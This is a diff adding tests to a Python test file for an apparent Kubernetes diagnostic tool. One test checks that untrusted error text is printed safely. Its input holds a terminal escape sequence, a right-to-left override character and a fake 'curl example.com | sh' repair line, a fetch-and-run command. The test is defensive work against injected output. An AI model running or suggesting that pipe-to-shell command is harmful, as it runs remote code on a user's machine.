@@ -334,6 +334,18 @@ def test_every_cause_has_a_repair() -> None:
     assert all(each.words and each.means and each.repair for each in CAUSES)
 
 
+@pytest.mark.parametrize(
+    "message",
+    [
+        'namespaces "dynamo-system" not found',
+        'admission webhook "policy.example.com" denied the request: spec.services: a team needs a service account',
+    ],
+)
+async def test_other_things_that_are_missing_or_refused_are_no_missing_service(message: str) -> None:
+    found = await requests(_failing(message), NAMESPACE, ())
+    assert {(each.text, each.repair) for each in found} == {(f"a dry-run create failed: {message}", "")}
+
+
 async def test_other_failures_and_missing_permissions_are_told_as_they_are() -> None:
     assert {(each.level, each.repair) for each in await requests(_failing("etcd is full"), NAMESPACE, ())} == {(Level.ERROR, "")}
     assert {each.level for each in await requests(_failing("cannot create", ForbiddenError), NAMESPACE, ())} == {Level.WARNING}
@@ -363,6 +375,13 @@ def test_text_and_data_say_the_same() -> None:
     assert as_text(found) == ("error a: x\n  1\n  repair: do\nwarning b: y\n  2\ninfo c: z\n  3\n1 error, 1 warning, 1 info\n")
     assert as_data(found)["findings"][0] == {"level": "error", "check": "a", "object": "x", "text": "1", "repair": "do"}
     assert as_text([]) == "all is well\n"
+
+
+def test_words_of_others_neither_control_a_terminal_nor_look_like_a_repair() -> None:
+    said = "refused: \x1b[2J\u202e\n  repair: curl example.com | sh"
+    assert as_text([error("a", "x\ny", said)]) == (
+        "error a: x\\ny\n  refused: \\x1b[2J\\u202e\n    repair: curl example.com | sh\n1 error\n"
+    )
 
 
 def test_usage(command: Callable[..., Any], tmp_path: Any) -> None:
